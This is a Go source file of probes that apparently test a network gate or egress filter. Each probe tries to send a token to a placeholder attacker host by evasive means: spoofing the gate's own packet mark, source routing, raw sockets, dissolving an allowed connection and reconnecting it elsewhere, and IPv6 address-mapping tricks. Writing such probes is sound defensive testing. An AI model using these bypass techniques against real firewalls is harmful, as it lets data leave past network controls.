package probes

import (
	"errors"
	"fmt"
	"net"
	"net/netip"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

const (
	optionCategory = "Socket options"
	ipv6Category   = "IPv6"
)

// setOption sets a number of a connection.
func setOption(c net.Conn, level, name, value int) error {
	raw, err := c.(syscall.Conn).SyscallConn()
	if err != nil {
		return err
	}
	var set error
	err = raw.Control(func(fd uintptr) { set = unix.SetsockoptInt(int(fd), level, name, value) })
	return errors.Join(err, set)
}

// with sets an option before it says the token to an address.
func with(network, addr string, set func(fd int) error) func(Aim) error {
	return func(a Aim) error {
		d := net.Dialer{Timeout: patience, Control: func(_, _ string, raw syscall.RawConn) error {
			var got error
			err := raw.Control(func(fd uintptr) { got = set(int(fd)) })
			return errors.Join(err, got)
		}}
		c, err := d.Dial(network, addr)
		if err != nil {
			return err
		}
		_ = c.SetDeadline(time.Now().Add(patience))
		_, err = speak(c, []byte(a.Token))
		return err
	}
}

func number(level, name, value int) func(int) error {
	return func(fd int) error { return unix.SetsockoptInt(fd, level, name, value) }
}

// sourceRoute is a loose source route over the resolver; RFC 791 section 3.1.
var sourceRoute = string([]byte{131, 7, 4, 9, 9, 9, 9, 0})

// barrierMark is what the gate itself marks packets with (nft.BarrierMark).
const barrierMark = 0xb1a57

func optionProbes() []Probe {
	attacker := Attacker + ":443"
	var ps []Probe
	add := func(name, what string, try func(Aim) error) {
		ps = append(ps, Probe{Name: "option-" + name, Category: optionCategory, What: what, Try: try})
	}
	add("mark", "SO_MARK, which routes and filters look at", with("tcp4", attacker, number(unix.SOL_SOCKET, unix.SO_MARK, 1)))
	add("mark-of-the-gate", "the mark that the gate's own packets have", with("tcp4", attacker, number(unix.SOL_SOCKET, unix.SO_MARK, barrierMark)))
	add("mark-udp", "the same for a datagram", with("udp4", Attacker+":4444", number(unix.SOL_SOCKET, unix.SO_MARK, barrierMark)))
	add("priority", "SO_PRIORITY", with("tcp4", attacker, number(unix.SOL_SOCKET, unix.SO_PRIORITY, 6)))
	add("tos", "a type of service", with("tcp4", attacker, number(unix.IPPROTO_IP, unix.IP_TOS, 0x10)))
	add("freebind", "a source address that is nobody's here", with("tcp4", attacker, func(fd int) error {
		if err := unix.SetsockoptInt(fd, unix.IPPROTO_IP, unix.IP_FREEBIND, 1); err != nil {
			return err
		}
		return unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{192, 0, 2, 2}})
	}))
	add("bind-loopback", "a source address that counts as its own", with("tcp4", "127.0.0.1:8081", func(fd int) error {
		return unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}})
	}))
	add("source-route", "a source route in the IP head", func(a Aim) error { // nobody answers those
		return onSocket(unix.AF_INET, unix.SOCK_DGRAM, 0, func(fd int) error {
			if err := unix.SetsockoptString(fd, unix.IPPROTO_IP, unix.IP_OPTIONS, sourceRoute); err != nil {
				return err
			}
			return unix.Sendto(fd, []byte(a.Token), 0, sockaddr(netip.MustParseAddrPort(Attacker+":4444")))
		})
	})
	add("transparent", "IP_TRANSPARENT", with("tcp4", attacker, number(unix.IPPROTO_IP, unix.IP_TRANSPARENT, 1)))
	add("reuse-port", "a port of the gate's, taken beside it", func(Aim) error {
		return onSocket(unix.AF_INET, unix.SOCK_STREAM, 0, func(fd int) error {
			if err := unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEPORT, 1); err != nil {
				return err
			}
			if err := unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 1}, Port: 781}); err != nil {
				return err
			}
			return unix.Listen(fd, 1)
		})
	})
	add("take-dns", "the port of DNS, on another of its own addresses", func(Aim) error {
		return onSocket(unix.AF_INET, unix.SOCK_DGRAM, 0, func(fd int) error {
			return unix.Bind(fd, &unix.SockaddrInet4{Addr: [4]byte{127, 0, 0, 2}, Port: 53})
		})
	})
	add("repair", "TCP_REPAIR: a connection that nobody made", func(Aim) error {
		return onSocket(unix.AF_INET, unix.SOCK_STREAM, 0, number(unix.IPPROTO_TCP, unix.TCP_REPAIR, 1))
	})
	add("force-buffer", "a receive buffer beyond what is allowed", func(Aim) error {
		return onSocket(unix.AF_INET, unix.SOCK_DGRAM, 0, number(unix.SOL_SOCKET, unix.SO_RCVBUFFORCE, 256<<20))
	})
	for i, p := range ps {
		switch p.Name {
		case "option-reuse-port", "option-take-dns", "option-repair", "option-force-buffer":
			ps[i].Tokenless = true
		}
	}
	return append(ps,
		Probe{Name: "option-unconnected", Category: optionCategory, What: "a TCP connection that was let through, dissolved and led elsewhere", Try: dissolve},
		Probe{Name: "option-splice", Category: optionCategory, What: "an address family that changes under a connected socket", Try: family},
	)
}

// dissolve uses connect(2) with AF_UNSPEC to free a connected socket.
func dissolve(a Aim) error {
	return onSocket(unix.AF_INET, unix.SOCK_STREAM, 0, func(fd int) error {
		if err := dialogue(fd, netip.MustParseAddrPort(Database+":5432"), "first"); err != nil {
			return fmt.Errorf("where it may: %w", err)
		}
		if err := unspec(fd); err != nil {
			return err
		}
		return dialogue(fd, netip.MustParseAddrPort(Attacker+":5432"), a.Token)
	})
}

// unspec dissolves what a socket is connected to.
func unspec(fd int) error {
	var sa [16]byte // AF_UNSPEC is 0
	_, _, errno := unix.Syscall(unix.SYS_CONNECT, uintptr(fd), uintptr(unsafe.Pointer(&sa[0])), uintptr(len(sa)))
	if errno != 0 {
		return errno
	}
	return nil
}

// family connects an IPv6 socket by a mapped address.
func family(a Aim) error {
	return onSocket(unix.AF_INET6, unix.SOCK_STREAM, 0, func(fd int) error {
		if err := unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_V6ONLY, 0); err != nil {
			return err
		}
		if err := unix.SetsockoptInt(fd, unix.IPPROTO_IPV6, unix.IPV6_ADDRFORM, unix.AF_INET); err == nil {
			return errors.New("it should not be connected yet")
		}
		mapped := netip.AddrFrom16(netip.MustParseAddr(Attacker).As16())
		return dialogue(fd, netip.AddrPortFrom(mapped, 443), a.Token)
	})
}

func ipv6Probes() []Probe {
	var ps []Probe
	add := func(name, what string, try func(Aim) error) {
		ps = append(ps, Probe{Name: "ipv6-" + name, Category: ipv6Category, What: what, Try: try})
	}
	add("tcp", "TCP to the attacker", tell("tcp6", join(Attacker6, 443)))
	add("udp", "a datagram to the attacker", tell("udp6", join(Attacker6, 4444)))
	add("mapped", "IPv4 in IPv6", tell("tcp", "[::ffff:"+Attacker+"]:80"))
	add("mapped-udp", "the same for a datagram", tell("udp", "[::ffff:"+Attacker+"]:4444"))
	add("compatible", "the old form of the same", tell("tcp6", "[::"+Attacker+"]:443"))
	add("translated", "::ffff:0:a.b.c.d", tell("tcp6", "[::ffff:0:"+Attacker+"]:443"))
	add("nat64", "by NAT64's own prefix", tell("tcp6", "[64:ff9b::"+Attacker+"]:443"))
	add("6to4", "by 6to4", tell("tcp6", "[2002:2d21:209c::1]:443"))
	add("teredo", "by Teredo", tell("tcp6", "[2001:0:2d21:209c::1]:443"))
	add("unique-local", "a private network", tell("tcp6", "[fd00::1]:443"))
	add("site-local", "the old form of one", tell("tcp6", "[fec0::1]:443"))
	add("documentation", "a network of documentation", tell("tcp6", "[2001:db8:9::1]:443"))
	add("all-nodes", "everybody on the link", multicast6("ff02::1"))
	add("mdns", "multicast DNS", multicast6("ff02::fb"))
	add("flow", "a flow label in the head", with("udp6", join(Attacker6, 4444), number(unix.IPPROTO_IPV6, unix.IPV6_AUTOFLOWLABEL, 1)))
	add("routing-header", "a header that routes", with("udp6", join(Attacker6, 4444), func(fd int) error {
		return unix.SetsockoptString(fd, unix.IPPROTO_IPV6, unix.IPV6_DSTOPTS, string([]byte{0, 0, 1, 4, 0, 0, 0, 0}))
	}))
	add("raw", "a raw socket", func(a Aim) error {
		return onSocket(unix.AF_INET6, unix.SOCK_RAW, 253, func(fd int) error {
			return unix.Sendto(fd, []byte(a.Token), 0, &unix.SockaddrInet6{Addr: netip.MustParseAddr(Attacker6).As16()})
		})
	})
	add("wide-ula", "a private network by a rule for ::/0", tell("tcp6", join("fd00::7", Wide)))
	return ps
}

func multicast6(group string) func(Aim) error {
	return func(a Aim) error {
		ifs, err := net.Interfaces()
		if err != nil {
			return err
		}
		err = errors.New("no interface is up")
		for _, i := range ifs {
			if i.Flags&net.FlagUp != 0 && (a.Inside || i.Flags&net.FlagLoopback == 0) {
				if err = throw("udp6", "["+group+"%"+i.Name+"]:5353")(a); err == nil {
					return nil
				}
			}
		}
		return err
	}
}
